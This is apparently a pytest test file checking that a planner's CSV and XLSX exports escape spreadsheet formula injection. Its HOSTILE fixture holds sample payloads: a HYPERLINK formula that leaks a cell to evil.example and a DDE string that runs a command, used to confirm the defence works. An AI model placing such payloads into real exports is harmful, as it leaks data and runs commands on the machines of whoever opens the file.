"""Formula injection (issue 11): user text never becomes a live formula in CSV or XLSX.

Written files are read back: with :mod:`csv` (every text cell) and with openpyxl (no cell is
stored as a formula, no text starts like one), and the scenario workbook loads back equal.
"""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from planner.app.exports import plan_csv_bytes
from planner.cli.commands import main
from planner.io import dump_yaml, load_scenario, scenario_from_dict, scenario_to_dict
from planner.model import Scenario
from planner.planning import SolveSettings
from planner.planning.pipeline import plan_scenario
from planner.report.tables import plan_xlsx_bytes, write_plan_tables
from planner.safe_cell import FORMULA_STARTS, safe_cell, unsafe_cell
from planner.validate.rules import assert_valid
from tests.conftest import contract_scenario

HOSTILE = {
    "Aino": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "Piotr": "=cmd|' /C calc'!A0",
    "Acme": "+SUM(1,2)",
    "Spring launch for Acme": "@SUM(A1:A9)",
}


def _replace(value: Any) -> Any:
    if isinstance(value, dict):
        return {key: _replace(item) for key, item in value.items()}
    if isinstance(value, list):
        return [_replace(item) for item in value]
    return HOSTILE.get(value, value) if isinstance(value, str) else value


@pytest.fixture(scope="module")
def hostile() -> Scenario:
    """The contract scenario with people, client and title that are formulas."""
    return scenario_from_dict(_replace(scenario_to_dict(contract_scenario())), "hostile.yaml")


def _starts_like_formula(text: str) -> bool:
    return bool(text) and text[0] in FORMULA_STARTS


def _assert_formula_free(path: Path) -> int:
    workbook = openpyxl.load_workbook(path)  # full mode: data_type 'f' marks a formula
    texts = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts += 1
                    assert not _starts_like_formula(cell.value), (sheet.title, cell.value)
    return texts


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+A1", "@SUM(A1)", "\t=1", "\r=1", "＝1", "'=1"])
def test_texts_that_start_like_formulas_get_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert unsafe_cell(safe_cell(text)) == text


@pytest.mark.parametrize("value", ["Aino", "'tis", "", 5, -5, 2.5, None, "a=1"])
def test_other_values_pass_unchanged(value: Any) -> None:
    assert safe_cell(value) == value and unsafe_cell(value) == value


@given(st.text())
def test_safe_cell_is_reversible_and_never_starts_like_a_formula(text: str) -> None:
    assert unsafe_cell(safe_cell(text)) == text
    assert not _starts_like_formula(safe_cell(text))


def test_plan_csv_and_xlsx_read_back_formula_free(hostile: Scenario, tmp_path: Path) -> None:
    plan = plan_scenario(hostile, SolveSettings(time_limit=3))
    assert_valid(hostile, plan)
    written = write_plan_tables(plan, tmp_path)
    people = set()
    for path in written:
        if path.suffix == ".csv":
            with path.open(newline="", encoding="utf-8") as stream:
                for row in csv.reader(stream):
                    assert not any(_starts_like_formula(cell) for cell in row), (path, row)
                    people.update(cell for cell in row if cell.startswith("'="))
    assert "'" + HOSTILE["Aino"] in people  # the name is there, as text
    assert _assert_formula_free(tmp_path / "plan.xlsx") > 0
    app_csv = plan_csv_bytes(plan).decode("utf-8").splitlines()
    assert not any(_starts_like_formula(cell) for row in csv.reader(app_csv) for cell in row)
    (tmp_path / "app.xlsx").write_bytes(plan_xlsx_bytes(plan))
    _assert_formula_free(tmp_path / "app.xlsx")


def test_convert_to_xlsx_is_formula_free_and_lossless(hostile: Scenario, tmp_path: Path) -> None:
    source = tmp_path / "hostile.yaml"
    source.write_text(dump_yaml(hostile), encoding="utf-8")
    workbook, back = tmp_path / "hostile.xlsx", tmp_path / "back.yaml"
    assert main(["convert", str(source), str(workbook)]) == 0
    assert _assert_formula_free(workbook) > 0
    assert load_scenario(workbook) == hostile
    assert main(["convert", str(workbook), str(back)]) == 0
    assert load_scenario(back) == hostile
